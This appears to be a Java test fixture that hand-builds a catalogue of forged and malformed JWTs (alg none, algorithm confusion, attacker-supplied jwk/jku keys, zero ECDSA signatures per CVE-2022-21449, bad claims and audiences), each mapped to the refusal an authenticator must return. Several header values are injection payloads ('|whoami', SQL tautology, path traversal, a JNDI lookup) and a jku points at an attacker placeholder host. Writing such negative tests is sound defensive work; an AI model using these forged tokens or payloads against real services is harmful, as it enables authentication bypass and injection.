package conversations.deletion.attack;

import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.DISABLED;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.EXPIRED;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.ISSUED_IN_FUTURE;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.MALFORMED;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.NOT_YET_VALID;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.NO_EXPIRY;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.NO_ISSUE_TIME;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.NO_JTI;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.NO_TOKEN;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.TOO_LONG;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.TOO_OLD;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.UNKNOWN_CLIENT_APP;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.UNREADABLE_KEY;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.WEAK_KEY;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.WRONG_AUDIENCE;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.WRONG_CURVE;
import static conversations.deletion.application.access.AuthenticateClientApp.Refusal.WRONG_SIGNATURE;
import static conversations.deletion.attack.HandmadeToken.base64;
import static conversations.deletion.attack.HandmadeToken.es256;
import static conversations.deletion.attack.HandmadeToken.hmac;
import static conversations.deletion.attack.HandmadeToken.pem;
import static conversations.deletion.attack.HandmadeToken.rs256;
import static conversations.deletion.attack.HandmadeToken.signed;
import static conversations.deletion.attack.HandmadeToken.unsigned;
import static conversations.deletion.attack.HandmadeToken.utf8;

import conversations.deletion.application.access.AuthenticateClientApp.Refusal;
import conversations.deletion.domain.BotId;
import conversations.deletion.domain.ClientApp;
import conversations.deletion.domain.ClientAppId;
import conversations.deletion.domain.Credentials;
import conversations.deletion.domain.Credentials.EcPublicKey;
import conversations.deletion.domain.Credentials.RsaPublicKey;
import conversations.deletion.domain.Credentials.SharedSecret;
import conversations.deletion.domain.Grants;
import conversations.deletion.domain.Scope;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.security.KeyPair;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/**
 * Forged or abused tokens, and the client apps that they attack. The tokens are made by hand, so
 * that they can be such as no library makes.
 */
final class ForgedTokens {

  static final String AUDIENCE = "this-stack";
  static final Instant NOW = Instant.parse("2026-05-08T06:22:56Z");

  /** The secret of every client app that signs with HS256. */
  static final byte[] SECRET = utf8("a secret of the app that has 32 bytes +");

  private static final byte[] OWN_SECRET = utf8("an attacker's own secret of 32 bytes +");
  private static final long IAT = NOW.getEpochSecond();
  private static final long EXP = IAT + 300;

  private static final KeyPair RSA = HandmadeToken.rsa(2048);
  private static final KeyPair SMALL_RSA = HandmadeToken.rsa(1024);
  private static final KeyPair OWN_RSA = HandmadeToken.rsa(2048);
  private static final KeyPair EC = HandmadeToken.ec("secp256r1");
  private static final KeyPair EC_384 = HandmadeToken.ec("secp384r1");
  private static final KeyPair OWN_EC = HandmadeToken.ec("secp256r1");

  private static final String HS = "{\"alg\":\"HS256\",\"typ\":\"JWT\"}";
  private static final String RS = "{\"alg\":\"RS256\",\"typ\":\"JWT\"}";
  private static final String ES = "{\"alg\":\"ES256\",\"typ\":\"JWT\"}";

  static final Map<String, ClientApp> CLIENT_APPS =
      Map.of(
          "hs", app("hs", new SharedSecret(), true, false),
          "rs", app("rs", new RsaPublicKey(pem(RSA)), true, false),
          "es", app("es", new EcPublicKey(pem(EC)), true, false),
          "off", app("off", new SharedSecret(), false, false),
          "once", app("once", new SharedSecret(), true, true),
          "small", app("small", new RsaPublicKey(pem(SMALL_RSA)), true, false),
          "curve", app("curve", new EcPublicKey(pem(EC_384)), true, false),
          "swapped", app("swapped", new RsaPublicKey(pem(EC)), true, false),
          "junk", app("junk", new RsaPublicKey("no key"), true, false));

  private final List<Forged> all = new ArrayList<>();

  private ForgedTokens() {}

  /**
   * A forged or abused token.
   *
   * @param name what is wrong with it
   * @param token its text
   * @param why the reason for which it must be refused; another reason would prove nothing
   */
  record Forged(String name, String token, Refusal why) {}

  /** Valid tokens: one for each algorithm, and one that is good once. */
  static List<String> honest() {
    return List.of(
        hs(claims("hs")),
        rs256(RS, claims("rs"), RSA),
        es256(ES, claims("es"), EC),
        hs(with(claims("once"), "\"jti\":\"1\"")),
        hs(with(claims("hs"), "\"aud\":\"this-stack\"")),
        hs(with(claims("hs"), "\"aud\":[\"other\",\"this-stack\"]")));
  }

  static List<Forged> all() {
    ForgedTokens tokens = new ForgedTokens();
    tokens.addNone();
    tokens.addConfusedAlgorithms();
    tokens.addKeysBroughtAlong();
    tokens.addHeaders();
    tokens.addTimes();
    tokens.addNames();
    tokens.addClaims();
    tokens.addAudiences();
    tokens.addJsonThatIsNoObject();
    tokens.addSignatures();
    tokens.addAsymmetricSignatures();
    tokens.addForms();
    tokens.addRegistrations();
    return tokens.all;
  }

  private void add(String name, String token, Refusal why) {
    all.add(new Forged(name, token, why));
  }

  /** RFC 8725, section 2.1. */
  private void addNone() {
    for (String none : List.of("none", "None", "NONE", "nOnE")) {
      String header = "{\"alg\":\"" + none + "\"}";
      add("alg " + none + ", no signature", unsigned(header, claims("hs")), MALFORMED);
    }
    for (String none : List.of("none", "None", "nOnE", "")) {
      String header = "{\"alg\":\"" + none + "\"}";
      Refusal why = none.equals("none") ? MALFORMED : WRONG_SIGNATURE;
      add("alg '" + none + "', an honest HMAC", hs(header, claims("hs")), why);
    }
    add("alg none, two dots behind", unsigned("{\"alg\":\"none\"}", claims("hs")) + ".", MALFORMED);
    add("HS256 and no signature", unsigned(HS, claims("hs")), MALFORMED);
    add("RS256 and no signature", unsigned(RS, claims("rs")), MALFORMED);
    add("no alg", hs("{\"typ\":\"JWT\"}", claims("hs")), MALFORMED);
    add("alg null", hs("{\"alg\":null}", claims("hs")), MALFORMED);
    add("alg a number", hs("{\"alg\":256}", claims("hs")), MALFORMED);
    add("alg a list", hs("{\"alg\":[\"HS256\"]}", claims("hs")), MALFORMED);
    add("alg in lower case", hs("{\"alg\":\"hs256\"}", claims("hs")), WRONG_SIGNATURE);
    add("alg with a blank", hs("{\"alg\":\"HS256 \"}", claims("hs")), WRONG_SIGNATURE);
    add("alg twice", hs("{\"alg\":\"none\",\"alg\":\"HS256\"}", claims("hs")), MALFORMED);
  }

  /** RFC 8725, sections 2.1 and 3.1. */
  private void addConfusedAlgorithms() {
    byte[] der = RSA.getPublic().getEncoded();
    add("RS to HS, the DER as secret", hs(HS, claims("rs"), der), WRONG_SIGNATURE);
    add("RS to HS, the PEM as secret", hs(HS, claims("rs"), utf8(pem(RSA))), WRONG_SIGNATURE);
    add(
        "RS to HS, the PEM without its last line feed",
        hs(HS, claims("rs"), utf8(pem(RSA).strip())),
        WRONG_SIGNATURE);
    add("RS to HS, labelled RS256", hs(RS, claims("rs"), utf8(pem(RSA))), WRONG_SIGNATURE);
    add("ES to HS, the PEM as secret", hs(HS, claims("es"), utf8(pem(EC))), WRONG_SIGNATURE);
    add("another app's secret for an RS256 app", hs(claims("rs")), WRONG_SIGNATURE);
    add("RS256 for an HS256 app", rs256(RS, claims("hs"), RSA), WRONG_SIGNATURE);
    add("ES256 for an HS256 app", es256(ES, claims("hs"), EC), WRONG_SIGNATURE);
    add("ES256 for an RS256 app", es256(ES, claims("rs"), EC), WRONG_SIGNATURE);
    add("RS256 for an ES256 app", rs256(RS, claims("es"), RSA), WRONG_SIGNATURE);
    add(
        "HS384 where HS256 is registered",
        hmac("{\"alg\":\"HS384\"}", claims("hs"), "HmacSHA384", SECRET),
        WRONG_SIGNATURE);
    add(
        "HS512 where HS256 is registered",
        hmac("{\"alg\":\"HS512\"}", claims("hs"), "HmacSHA512", SECRET),
        WRONG_SIGNATURE);
    add(
        "RS512 where RS256 is registered",
        signed("{\"alg\":\"RS512\"}", claims("rs"), "SHA512withRSA", RSA),
        WRONG_SIGNATURE);
    add(
        "PS256 where RS256 is registered",
        signed("{\"alg\":\"PS256\"}", claims("rs"), "RSASSA-PSS", RSA),
        WRONG_SIGNATURE);
    add("PS256 labelled RS256", signed(RS, claims("rs"), "RSASSA-PSS", RSA), WRONG_SIGNATURE);
    add("RS512 labelled RS256", signed(RS, claims("rs"), "SHA512withRSA", RSA), WRONG_SIGNATURE);
    add("RS256 with SHA-1 inside", signed(RS, claims("rs"), "SHA1withRSA", RSA), WRONG_SIGNATURE);
    add("ES256 labelled ES256K", es256("{\"alg\":\"ES256K\"}", claims("es"), EC), WRONG_SIGNATURE);
    add("EdDSA label", es256("{\"alg\":\"EdDSA\"}", claims("es"), EC), WRONG_SIGNATURE);
  }

  /** RFC 8725, section 3.10: the author of a token must not choose the key. */
  private void addKeysBroughtAlong() {
    String ownSecret = base64(OWN_SECRET);
    add(
        "its own symmetric jwk",
        hs(
            "{\"alg\":\"HS256\",\"jwk\":{\"kty\":\"oct\",\"k\":\"" + ownSecret + "\"}}",
            claims("hs"),
            OWN_SECRET),
        MALFORMED);
    add(
        "its own RSA jwk (CVE-2018-0114)",
        rs256(
            "{\"alg\":\"RS256\",\"jwk\":" + HandmadeToken.jwk(OWN_RSA) + "}",
            claims("rs"),
            OWN_RSA),
        WRONG_SIGNATURE);
    for (String member : List.of("jku", "x5u")) {
      String header = "{\"alg\":\"RS256\",\"" + member + "\":\"https://attacker.example/keys\"}";
      add(member + " to its own keys", rs256(header, claims("rs"), OWN_RSA), WRONG_SIGNATURE);
    }
    add(
        "jku to a file",
        rs256("{\"alg\":\"RS256\",\"jku\":\"file:///dev/null\"}", claims("rs"), OWN_RSA),
        WRONG_SIGNATURE);
    add(
        "x5c with its own certificate",
        rs256("{\"alg\":\"RS256\",\"x5c\":[\"MIIB\"]}", claims("rs"), OWN_RSA),
        WRONG_SIGNATURE);
    add(
        "x5t#S256 of its own certificate",
        rs256("{\"alg\":\"RS256\",\"x5t#S256\":\"AAAA\"}", claims("rs"), OWN_RSA),
        WRONG_SIGNATURE);
    for (String kid :
        List.of("../../../dev/null", "' OR '1'='1", "hs", "", "|whoami", "${jndi:ldap://x}")) {
      String header = "{\"alg\":\"HS256\",\"kid\":\"" + kid + "\"}";
      add(
          "kid '" + kid + "' and a key of zeros",
          hs(header, claims("hs"), new byte[32]),
          WRONG_SIGNATURE);
    }
    add("kid a number", hs("{\"alg\":\"HS256\",\"kid\":1}", claims("hs")), MALFORMED);
  }

  private void addHeaders() {
    add(
        "crit that is unknown",
        hs("{\"alg\":\"HS256\",\"crit\":[\"x\"],\"x\":1}", claims("hs")),
        MALFORMED);
    add("crit empty", hs("{\"alg\":\"HS256\",\"crit\":[]}", claims("hs")), MALFORMED);
    add("crit a text", hs("{\"alg\":\"HS256\",\"crit\":\"exp\"}", claims("hs")), MALFORMED);
    add(
        "b64 false (RFC 7797)",
        hs("{\"alg\":\"HS256\",\"crit\":[\"b64\"],\"b64\":false}", claims("hs")),
        MALFORMED);
    add(
        "compressed claims",
        hmac("{\"alg\":\"HS256\",\"zip\":\"DEF\"}", deflated(claims("hs")), "HmacSHA256", SECRET),
        MALFORMED);
    add(
        "nested: the claims are an honest token",
        hs("{\"alg\":\"HS256\",\"cty\":\"JWT\"}", hs(claims("hs"))),
        MALFORMED);
    add("header a list", hs("[\"HS256\"]", claims("hs")), MALFORMED);
    add("header no JSON", hs("alg=HS256", claims("hs")), MALFORMED);
    add("header empty", hs("", claims("hs")), MALFORMED);
  }

  private void addTimes() {
    add("expired a minute and a second ago", hs(claims("hs", IAT - 61, IAT - 400)), EXPIRED);
    add("expired in 1970", hs(claims("hs", 1, 0)), EXPIRED);
    add("expired before 1970", hs(claims("hs", -EXP, IAT)), EXPIRED);
    add("no exp", hs("{\"appId\":\"hs\",\"iat\":" + IAT + "}"), NO_EXPIRY);
    add("exp null", hs("{\"appId\":\"hs\",\"exp\":null,\"iat\":" + IAT + "}"), NO_EXPIRY);
    add("exp a text", hs(claims("hs").replace("" + EXP, "\"9999999999\"")), MALFORMED);
    add("exp a list", hs(claims("hs").replace("" + EXP, "[9999999999]")), MALFORMED);
    add("exp true", hs(claims("hs").replace("" + EXP, "true")), MALFORMED);
    add("exp twice", hs(with(claims("hs", 1, IAT), "\"exp\":" + EXP)), MALFORMED);
    add("no iat", hs("{\"appId\":\"hs\",\"exp\":" + EXP + "}"), NO_ISSUE_TIME);
    add("iat in the future", hs(claims("hs", EXP, IAT + 61)), ISSUED_IN_FUTURE);
    add("too old", hs(claims("hs", EXP, IAT - 86_460)), TOO_OLD);
    add("made in 1970, good for ever", hs(claims("hs", 99_999_999_999L, 0)), TOO_OLD);
    add("not yet valid", hs(with(claims("hs"), "\"nbf\":" + (IAT + 61))), NOT_YET_VALID);
    add("nbf a text", hs(with(claims("hs"), "\"nbf\":\"now\"")), MALFORMED);
  }

  private void addNames() {
    String nobody = "{\"exp\":%d,\"iat\":%d}".formatted(EXP, IAT);
    add("no appId", hs(nobody), MALFORMED);
    add("appId in lower case", hs(with(nobody, "\"appid\":\"hs\"")), MALFORMED);
    add(
        "iss and sub rather than appId",
        hs(with(nobody, "\"iss\":\"hs\",\"sub\":\"hs\"")),
        MALFORMED);
    add("appId null", hs(with(nobody, "\"appId\":null")), MALFORMED);
    add("appId a number", hs(with(nobody, "\"appId\":1")), MALFORMED);
    add("appId a list", hs(with(nobody, "\"appId\":[\"hs\"]")), MALFORMED);
    add("appId an object", hs(with(nobody, "\"appId\":{\"S\":\"hs\"}")), MALFORMED);
    add("appId empty", hs(claims("")), MALFORMED);
    add("appId with blanks", hs(claims(" hs ")), MALFORMED);
    add("appId with a NUL", hs(claims("hs\\u0000")), MALFORMED);
    add("appId with the separator of keys", hs(claims("hs#1")), MALFORMED);
    add("appId that climbs up a path", hs(claims("../hs")), MALFORMED);
    add("appId of 129 characters", hs(claims("h".repeat(129))), MALFORMED);
    add("appId twice", hs(with(claims("hs"), "\"appId\":\"rs\"")), MALFORMED);
    add(
        "appId twice, once in escapes",
        hs(with(claims("hs"), "\"\\u0061ppId\":\"rs\"")),
        MALFORMED);
    add("appId of no client app", hs(claims("nobody")), UNKNOWN_CLIENT_APP);
    add("appId in another case", hs(claims("HS")), UNKNOWN_CLIENT_APP);
    add("another app's appId", hs(claims("es")), WRONG_SIGNATURE);
  }

  private void addClaims() {
    add("claims a list", hs("[]"), MALFORMED);
    add("claims a text", hs("\"appId\""), MALFORMED);
    add("claims no JSON", hs("appId=hs"), MALFORMED);
    add("claims null", hs("null"), MALFORMED);
    add("claims cut off", hs(claims("hs").substring(0, claims("hs").length() - 1)), MALFORMED);
    add("claims in single quotes", hs(claims("hs").replace('"', '\'')), MALFORMED);
    add("claims with more behind", hs(claims("hs") + "{}"), MALFORMED);
    byte[] notUtf8 = flipped(utf8(claims("hs")), claims("hs").indexOf("hs"), 0x80);
    add("appId not UTF-8", hmac(HS, notUtf8, "HmacSHA256", SECRET), MALFORMED);
    add("no jti where it is wanted", hs(claims("once")), NO_JTI);
    add("jti null", hs(with(claims("once"), "\"jti\":null")), NO_JTI);
    add("jti a number", hs(with(claims("once"), "\"jti\":1")), MALFORMED);
    add("jti a list", hs(with(claims("once"), "\"jti\":[\"1\"]")), MALFORMED);
    add("jti empty", hs(with(claims("once"), "\"jti\":\"\"")), NO_JTI);
    add("jti too long", hs(with(claims("once"), "\"jti\":\"" + "j".repeat(257) + "\"")), NO_JTI);
    add("jti twice", hs(with(claims("once"), "\"jti\":\"1\",\"jti\":\"2\"")), MALFORMED);
  }

  private void addSignatures() {
    String good = hs(claims("hs"));
    String content = content(good);
    String other = hs(claims("off"));
    add("signature cut short", good.substring(0, good.length() - 4), WRONG_SIGNATURE);
    add("half a signature", content + base64(Arrays.copyOf(mac(good), 16)), WRONG_SIGNATURE);
    add("signature extended", content + base64(Arrays.copyOf(mac(good), 35)), WRONG_SIGNATURE);
    add("signature of zeros", content + base64(new byte[32]), WRONG_SIGNATURE);
    add("signature of one byte", content + base64(new byte[1]), WRONG_SIGNATURE);
    add(
        "first bit of the signature",
        content + base64(flipped(mac(good), 0, 0x80)),
        WRONG_SIGNATURE);
    add("last bit of the signature", content + base64(flipped(mac(good), 31, 1)), WRONG_SIGNATURE);
    add("bits behind the end of the signature", withStrayBits(good), MALFORMED);
    add(
        "another token's signature",
        content + other.substring(content(other).length()),
        WRONG_SIGNATURE);
    add(
        "claims changed, signature kept",
        content(hs(claims("hs", EXP + 1, IAT))) + base64(mac(good)),
        WRONG_SIGNATURE);
    add(
        "header changed, signature kept",
        content(hs("{\"alg\":\"HS256\"}", claims("hs"))) + base64(mac(good)),
        WRONG_SIGNATURE);
    add("another secret", hs(HS, claims("hs"), OWN_SECRET), WRONG_SIGNATURE);
    add("the appId as secret", hs(HS, claims("hs"), utf8("hs")), WRONG_SIGNATURE);
    add(
        "HMAC-SHA512 labelled HS256",
        hmac(HS, claims("hs"), "HmacSHA512", SECRET),
        WRONG_SIGNATURE);
  }

  private void addAsymmetricSignatures() {
    String rs = rs256(RS, claims("rs"), RSA);
    String es = es256(ES, claims("es"), EC);
    byte[] ones = new byte[64];
    Arrays.fill(ones, (byte) 0xff);
    byte[] rIsZero = mac(es);
    Arrays.fill(rIsZero, 0, 32, (byte) 0);
    add("its own RSA key", rs256(RS, claims("rs"), OWN_RSA), WRONG_SIGNATURE);
    add("its own EC key", es256(ES, claims("es"), OWN_EC), WRONG_SIGNATURE);
    add(
        "ECDSA, r and s zero (CVE-2022-21449)",
        content(es) + base64(new byte[64]),
        WRONG_SIGNATURE);
    add("ECDSA, r zero", content(es) + base64(rIsZero), WRONG_SIGNATURE);
    add("ECDSA, r and s beyond the order", content(es) + base64(ones), WRONG_SIGNATURE);
    add("ECDSA in DER", signed(ES, claims("es"), "SHA256withECDSA", EC), WRONG_SIGNATURE);
    add("ECDSA cut short", content(es) + base64(Arrays.copyOf(mac(es), 63)), WRONG_SIGNATURE);
    add("ECDSA extended", content(es) + base64(Arrays.copyOf(mac(es), 66)), WRONG_SIGNATURE);
    add("RSA, a bit flipped", content(rs) + base64(flipped(mac(rs), 100, 1)), WRONG_SIGNATURE);
    add("RSA, zeros", content(rs) + base64(new byte[256]), WRONG_SIGNATURE);
    add("RSA, a zero byte before", content(rs) + base64(withZeroBefore(mac(rs))), WRONG_SIGNATURE);
  }

  private void addForms() {
    String good = hs(claims("hs"));
    add("no text", "", NO_TOKEN);
    add("a word", "admin", MALFORMED);
    add("dots alone", "..", MALFORMED);
    add("a blank before", " " + good, MALFORMED);
    add("a blank behind", good + " ", MALFORMED);
    add("a tab behind", good + "\t", MALFORMED);
    add("a line feed behind", good + "\n", MALFORMED);
    add("a carriage return inside", good.replaceFirst("\\.", ".\r\n"), MALFORMED);
    add("a NUL behind", good + "\u0000", MALFORMED);
    add("Bearer", "Bearer " + good, MALFORMED);
    add("in quotes", "\"" + good + "\"", MALFORMED);
    add("two tokens", good + "," + good, MALFORMED);
    add("a dot before", "." + good, MALFORMED);
    add("a dot behind", good + ".", MALFORMED);
    add("four parts", good + ".AAAA", MALFORMED);
    add("five parts", good + ".AAAA.AAAA", MALFORMED);
    add(
        "encrypted (JWE, dir)",
        base64(utf8("{\"alg\":\"dir\",\"enc\":\"A128GCM\"}")) + "..AAAAAAAAAAAAAAAA.AAAA.AAAA",
        MALFORMED);
    add("padded", good + "=", MALFORMED);
    add("header padded", good.replaceFirst("\\.", "=."), MALFORMED);
    add("base64 in the standard alphabet", good.substring(0, good.length() - 1) + "+", MALFORMED);
    add("dots as percent codes", good.replace(".", "%2e"), MALFORMED);
    add("full-width dots", good.replace('.', '\uff0e'), MALFORMED);
    add("no dots", good.replace(".", ""), MALFORMED);
    add("JSON serialisation", "{\"payload\":\"\",\"signatures\":[]}", MALFORMED);
    add(
        "longer than 8 KB",
        hs(with(claims("hs"), "\"x\":\"" + "x".repeat(9_000) + "\"")),
        TOO_LONG);
  }

  private void addRegistrations() {
    add("a disabled app", hs(claims("off")), DISABLED);
    add("an app with an RSA key of 1024 bits", rs256(RS, claims("small"), SMALL_RSA), WEAK_KEY);
    add(
        "an app with a key on P-384",
        signed(ES, claims("curve"), "SHA256withECDSAinP1363Format", EC_384),
        WRONG_CURVE);
    add("an RS256 app with an EC key", es256(ES, claims("swapped"), EC), UNREADABLE_KEY);
    add("an app with a key that is not valid", rs256(RS, claims("junk"), RSA), UNREADABLE_KEY);
  }

  /** Headers and payloads that are JSON, and no object. */
  private void addJsonThatIsNoObject() {
    for (String json : List.of("null", " null\n", "1", "\"x\"", "[]", "true", "{", "")) {
      String part = base64(utf8(json.isEmpty() ? "{}" : json));
      add("a header that is " + json, part + ".e30.AA", MALFORMED);
      add(
          "a payload that is " + json,
          base64(utf8("{\"alg\":\"HS256\"}")) + "." + part + ".AA",
          MALFORMED);
    }
  }

  /** Tokens that are good elsewhere. */
  private void addAudiences() {
    for (String other : List.of("other", "this-stack-dev", "THIS-STACK", "this-stack ", "")) {
      add(
          "for '" + other + "'",
          hs(with(claims("hs"), "\"aud\":\"" + other + "\"")),
          WRONG_AUDIENCE);
    }
    add("for two others", hs(with(claims("hs"), "\"aud\":[\"a\",\"b\"]")), WRONG_AUDIENCE);
    add("for nobody", hs(with(claims("hs"), "\"aud\":[]")), WRONG_AUDIENCE);
    for (String odd : List.of("null", "1", "true", "{\"this-stack\":1}", "[\"this-stack\",1]")) {
      add("for " + odd, hs(with(claims("hs"), "\"aud\":" + odd)), MALFORMED);
    }
  }

  private static ClientApp app(
      String id, Credentials credentials, boolean enabled, boolean requiresJti) {
    return new ClientApp(
        new ClientAppId(id),
        credentials,
        enabled,
        requiresJti,
        false,
        Optional.empty(),
        new Grants(Map.of(new BotId("st-1"), EnumSet.allOf(Scope.class))));
  }

  private static String claims(String appId) {
    return claims(appId, EXP, IAT);
  }

  private static String claims(String appId, long exp, long iat) {
    return "{\"appId\":\"%s\",\"exp\":%d,\"iat\":%d}".formatted(appId, exp, iat);
  }

  private static String with(String claims, String members) {
    return claims.substring(0, claims.length() - 1) + "," + members + "}";
  }

  private static String hs(String claims) {
    return hs(HS, claims);
  }

  private static String hs(String header, String claims) {
    return hs(header, claims, SECRET);
  }

  private static String hs(String header, String claims, byte[] secret) {
    return hmac(header, claims, "HmacSHA256", secret);
  }

  private static String content(String token) {
    return token.substring(0, token.lastIndexOf('.') + 1);
  }

  private static byte[] mac(String token) {
    return Base64.getUrlDecoder().decode(token.substring(token.lastIndexOf('.') + 1));
  }

  private static byte[] flipped(byte[] bytes, int index, int bits) {
    bytes[index] ^= (byte) bits;
    return bytes;
  }

  private static byte[] withZeroBefore(byte[] bytes) {
    byte[] longer = new byte[bytes.length + 1];
    System.arraycopy(bytes, 0, longer, 1, bytes.length);
    return longer;
  }

  /** Another text for the same 32 bytes: the last of its 43 characters has two unused bits. */
  private static String withStrayBits(String token) {
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    int last = alphabet.indexOf(token.charAt(token.length() - 1));
    return token.substring(0, token.length() - 1) + alphabet.charAt(last + 1);
  }

  private static byte[] deflated(String text) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (DeflaterOutputStream out =
        new DeflaterOutputStream(bytes, new Deflater(Deflater.DEFAULT_COMPRESSION, true))) {
      out.write(utf8(text));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }
}
